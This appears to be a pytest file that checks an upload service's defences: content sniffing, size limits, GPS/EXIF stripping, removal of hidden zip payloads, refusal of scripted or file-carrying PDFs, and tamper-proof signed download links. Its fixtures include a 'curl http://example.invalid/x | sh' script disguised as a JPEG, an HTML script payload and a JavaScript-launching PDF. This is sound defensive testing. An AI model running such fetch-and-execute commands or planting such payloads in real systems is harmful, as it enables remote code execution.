"""Uploads judged by content, size limits, EXIF/GPS stripping and signed downloads, on the local store and on
S3 through boto3 and moto_server."""

from __future__ import annotations

import hashlib
import io
import uuid
from urllib.parse import parse_qsl, urlencode

import pytest
import requests
from PIL import Image

from backend.extensions import db
from tests.conftest import truncate_all
from tests.records.helpers import (
    API,
    HIDDEN_COLOR,
    PAYLOAD_NAME,
    ZIP_SIGNATURE,
    Kit,
    gps_exif,
    hiding_places,
    jpeg,
    pdf,
    png,
    raw_pdf,
    webp,
    zip_payload,
)


@pytest.fixture
def store_app(store_config):
    """The app on each object store (local folder, S3 on moto_server), with the demo seeded."""
    from backend import create_app
    from backend.cli import seed_demo

    application = create_app(store_config)
    with application.app_context():
        truncate_all(db.engine)
        seed_demo()
        yield application
        db.session.remove()
        truncate_all(db.engine)
        db.engine.dispose()


@pytest.fixture
def sk(store_app):
    """``sk(openid)`` → a Kit on the parametrised store."""
    from sqlalchemy import select

    from backend.accounts.models import User
    from backend.accounts.services import issue_session

    client = store_app.test_client()

    def make(openid: str, canteen_id: int = 1) -> Kit:
        user = db.session.scalar(select(User).where(User.openid == openid))
        token = issue_session(user, 24).token
        db.session.commit()
        return Kit(client, {"Authorization": f"Bearer {token}"}, canteen_id)

    return make


def _fetch(store_app, url):
    """GET a signed URL: the api serves local-store URLs, S3 serves presigned ones."""
    if url.startswith("/"):
        response = store_app.test_client().get(url)
        return response.status_code, response.data
    response = requests.get(url, timeout=10)
    return response.status_code, response.content


def _stored(store_app, upload_id):
    from backend.files import object_store
    from backend.records.models import Upload

    return object_store().get(db.session.get(Upload, upload_id).key)


def test_jpeg_with_gps_exif_is_stored_without_it(store_app, sk):
    manager = sk("demo-manager-1")
    original = jpeg(size=(120, 80), exif=gps_exif())
    assert Image.open(io.BytesIO(original)).getexif().get_ifd(0x8825)  # the fixture really carries GPS
    body = manager.upload(original, "IMG_0001.jpg").get_json()
    assert body["content_type"] == "image/jpeg" and (body["width"], body["height"]) == (120, 80)
    stored = _stored(store_app, body["id"])
    assert hashlib.sha256(stored).hexdigest() == body["sha256"] and len(stored) == body["size"]
    image = Image.open(io.BytesIO(stored))
    assert dict(image.getexif()) == {} and image.getexif().get_ifd(0x8825) == {}
    assert b"Exif\x00\x00" not in stored and b"PhoneCam" not in stored
    from backend.records.models import Upload

    row = db.session.get(Upload, body["id"])
    assert row.original_sha256 == hashlib.sha256(original).hexdigest() and row.original_size == len(original)
    assert row.uploader_id is not None and row.original_filename == "IMG_0001.jpg"
    status, data = _fetch(store_app, body["url"])
    assert status == 200 and data == stored


def test_png_renamed_pdf_is_judged_by_content(store_app, sk):
    body = sk("demo-manager-1").upload(png(), "licence.pdf", content_type="application/pdf").get_json()
    assert body["content_type"] == "image/png"
    from backend.records.models import Upload

    assert db.session.get(Upload, body["id"]).key.endswith(".png")
    assert Image.open(io.BytesIO(_stored(store_app, body["id"]))).format == "PNG"


def test_script_renamed_jpg_is_refused(store_app, sk):
    script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
    response = sk("demo-manager-1").upload(script, "photo.jpg", expect=415)
    assert response.get_json()["error"]["code"] == "unsupported_file_type"
    assert response.get_json()["error"]["message"] == "仅支持 JPEG、PNG、WebP 图片和 PDF 文件"
    html = sk("demo-manager-1").upload(b"<html><script>alert(1)</script></html>", "a.png", expect=415)
    assert html.get_json()["error"]["code"] == "unsupported_file_type"


def test_truncated_jpeg_is_refused(store_app, sk):
    whole = jpeg(size=(400, 300), quality=95)
    response = sk("demo-manager-1").upload(whole[: len(whole) // 2], "cut.jpg", expect=422)
    assert response.get_json()["error"]["code"] == "file_corrupt"


def test_eleven_megabytes_is_413(store_app, sk):
    big = jpeg()[:-2] + b"\x00" * (11 * 1024 * 1024)
    response = sk("demo-manager-1").upload(big, "big.jpg", expect=413)
    assert response.get_json()["error"]["code"] == "payload_too_large"
    from backend.records.models import Upload

    assert db.session.query(Upload).count() == 0


def test_file_just_over_the_limit_is_413_from_the_upload_check(store_app, sk):
    # Within the request-size margin (multipart overhead), so the upload check itself refuses it.
    over = b"\xff\xd8\xff" + b"\x00" * (10 * 1024 * 1024 - 2)
    response = sk("demo-manager-1").upload(over, "big.jpg", expect=413)
    assert response.get_json()["error"]["code"] == "file_too_large"
    assert response.get_json()["error"]["details"] == {"max_bytes": 10 * 1024 * 1024, "size": 10 * 1024 * 1024 + 1}


def test_webp_and_pdf_are_accepted(store_app, sk):
    manager = sk("demo-manager-1")
    assert manager.upload(webp(), "a.webp").get_json()["content_type"] == "image/webp"
    document = pdf()
    body = manager.upload(document, "report.pdf").get_json()
    assert (body["content_type"], body["pages"]) == ("application/pdf", 1)
    assert _stored(store_app, body["id"]) == document  # PDFs are kept byte for byte


def test_downloads_only_for_readers_of_the_record(store_app, sk):
    manager = sk("demo-manager-1")
    photo = manager.photo()
    parent, other_parent = sk("demo-parent-1"), sk("demo-parent-2")
    # Not attached to any record yet: the uploader and the canteen's writers only.
    assert parent.get(f"/uploads/{photo}/url", expect=404).get_json()["error"]["code"] == "not_found"
    assert sk("demo-staff-1").get(f"/uploads/{photo}/url").status_code == 200
    supplier = manager.supplier()
    manager.create("certificates", {"supplier_id": supplier, "kind": "business_licence", "number": "1",
                                    "valid_until": "2099-01-01", "scan_upload_ids": [photo]})
    body = parent.get(f"/uploads/{photo}/url").get_json()
    status, _ = _fetch(store_app, body["url"])
    assert status == 200
    assert other_parent.get(f"/uploads/{photo}/url", expect=403).get_json()["error"]["code"] == "forbidden"
    assert sk("demo-regulator").get(f"/uploads/{photo}/url").status_code == 200


def test_upload_rules(store_app, sk):
    parent = sk("demo-parent-1")
    assert parent.upload(jpeg(), expect=403).get_json()["error"]["code"] == "forbidden"
    assert sk("demo-manager-2").upload(jpeg(), expect=403).status_code == 403  # canteen 1 is not theirs
    manager = sk("demo-manager-1")
    assert manager.upload(jpeg(), canteen_id=999, expect=404).get_json()["error"]["code"] == "not_found"
    assert manager.upload(b"", "empty.jpg", expect=422).get_json()["error"]["code"] == "file_empty"
    no_key = manager.client.post(f"{API}/uploads", headers=manager.headers, content_type="multipart/form-data",
                                 data={"canteen_id": "1", "file": (io.BytesIO(jpeg()), "a.jpg")})
    assert no_key.status_code == 400 and no_key.get_json()["error"]["code"] == "idempotency_key_required"
    no_file = manager.client.post(f"{API}/uploads", headers={**manager.headers, "Idempotency-Key": uuid.uuid4().hex},
                                  content_type="multipart/form-data", data={"canteen_id": "1"})
    assert no_file.status_code == 422 and "file" in no_file.get_json()["error"]["details"]["fields"]


def test_retried_upload_stores_once(store_app, sk):
    manager = sk("demo-manager-1")
    first = manager.upload(jpeg(), key="upload-retry-0001")
    second = manager.upload(jpeg(), key="upload-retry-0001")
    assert first.headers["Idempotent-Replayed"] == "false" and second.headers["Idempotent-Replayed"] == "true"
    assert first.get_json()["id"] == second.get_json()["id"]
    from backend.records.models import Upload

    assert db.session.query(Upload).count() == 1
    reused = manager.upload(png(), key="upload-retry-0001", expect=422)
    assert reused.get_json()["error"]["code"] == "idempotency_key_reused"


def test_active_pdf_and_broken_pdf_are_refused(store_app, sk):
    manager = sk("demo-manager-1")
    scripted = _pdf_with_javascript()
    response = manager.upload(scripted, "x.pdf", expect=422)
    assert response.get_json()["error"]["code"] == "pdf_active_content"
    assert "/JavaScript" in response.get_json()["error"]["details"]["found"]
    truncated = pdf()[:200]
    assert manager.upload(truncated, "cut.pdf", expect=422).get_json()["error"]["code"] == "file_corrupt"


def _pdf_with_javascript() -> bytes:
    """A one-page PDF whose catalog runs JavaScript when opened."""
    return raw_pdf(b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                   b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                   b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
                   b"<< /S /JavaScript /JS (app.alert(1);) >>")


@pytest.mark.parametrize("kind", ["jpeg", "png", "webp"])
def test_payload_in_profile_metadata_or_after_the_end_is_not_stored(store_app, sk, kind):
    manager = sk("demo-manager-1")
    payload = zip_payload()
    for place, original in hiding_places(kind).items():
        carried = Image.open(io.BytesIO(original)).info
        assert payload in original or any(payload in _as_bytes(value) for value in carried.values()), place
        body = manager.upload(original, f"photo.{kind}").get_json()
        stored = _stored(store_app, body["id"])
        assert ZIP_SIGNATURE not in stored and PAYLOAD_NAME not in stored, place
        image = Image.open(io.BytesIO(stored))
        assert image.format == kind.upper() and not {"icc_profile", "exif", "xmp", "comment", "Comment",
                                                      "Description"} & set(image.info), (place, image.info)
        # The colours survive: a profile is converted to sRGB (or dropped when unusable), not kept.
        pixel = image.convert("RGB").getpixel((5, 5))
        assert all(abs(a - b) <= 8 for a, b in zip(pixel, HIDDEN_COLOR, strict=True)), (place, pixel)
        assert _fetch(store_app, body["url"]) == (200, stored)


def _as_bytes(value) -> bytes:
    return value if isinstance(value, bytes) else str(value).encode("latin-1", "replace")


def test_pdf_carrying_an_attached_file_is_refused_and_not_stored(store_app, sk):
    attached = raw_pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                       b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Annots [4 0 R] >>",
                       b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS 5 0 R >>",
                       b"<< /Type /Filespec /F (a.zip) /EF << /F 6 0 R >> >>",
                       b"<< /Length %d >>\nstream\n" % len(zip_payload()) + zip_payload() + b"\nendstream")
    response = sk("demo-manager-1").upload(attached, "invoice.pdf", content_type="application/pdf", expect=422)
    error = response.get_json()["error"]
    assert error["code"] == "pdf_active_content" and "/EF" in error["details"]["found"]
    assert error["message"] == "PDF 含有脚本、自动动作或嵌入文件，不予接收"
    from backend.records.models import Upload

    assert db.session.query(Upload).count() == 0


@pytest.mark.parametrize("store_config", ["local"], indirect=True)  # S3 signs the query itself (SigV4)
def test_download_name_and_type_follow_the_content_and_no_url_holder_can_change_them(store_app, sk):
    manager = sk("demo-manager-1")
    document = pdf()
    body = manager.upload(document, "report.html", content_type="text/html").get_json()
    from backend.records.models import Upload

    assert db.session.get(Upload, body["id"]).original_filename == "report.pdf"
    url = manager.get(f"/uploads/{body['id']}/url").get_json()["url"]
    client = store_app.test_client()

    def answer(target: str) -> tuple:
        response = client.get(target)
        return (response.status_code, response.headers.get("Content-Type"),
                response.headers.get("Content-Disposition"), response.data)

    genuine = answer(url)
    assert genuine == (200, "application/pdf", "attachment; filename*=UTF-8''report.pdf", document)
    path, query = url.split("?", 1)
    params = parse_qsl(query)
    assert {name for name, _ in params} == {"expires", "sig", "filename"}
    tampered = {"expires": str(int(dict(params)["expires"]) + 3600), "sig": "0" * 64, "filename": "report.html"}
    for name, _ in params:
        changed = [(n, tampered[n] if n == name else v) for n, v in params]
        dropped = [(n, v) for n, v in params if n != name]
        for attempt in (changed, dropped):
            assert answer(f"{path}?{urlencode(attempt)}")[0] == 403, (name, attempt)
    # Parameters the signature does not cover change nothing: extra ones, and a second copy of a signed one.
    for extra in ([("response-content-type", "text/html")], [("content_type", "text/html")],
                  [("response-content-disposition", "attachment; filename=report.html")],
                  [("filename", "report.html")], [("download", "report.html")]):
        assert answer(f"{url}&{urlencode(extra)}") == genuine, extra
    # A row stored before names followed the content keeps its name, but not its extension.
    from backend.files import object_store

    row = db.session.get(Upload, body["id"])
    key = row.key.replace(".pdf", "-old.pdf")
    object_store().put(key, document, "application/pdf")
    older = Upload(**{column.key: getattr(row, column.key) for column in Upload.__table__.columns
                      if column.key != "id"} | {"original_filename": "old.html", "key": key})
    db.session.add(older)
    db.session.commit()
    renamed = manager.get(f"/uploads/{older.id}/url").get_json()["url"]
    assert answer(renamed) == (200, "application/pdf", "attachment; filename*=UTF-8''old.pdf", document)
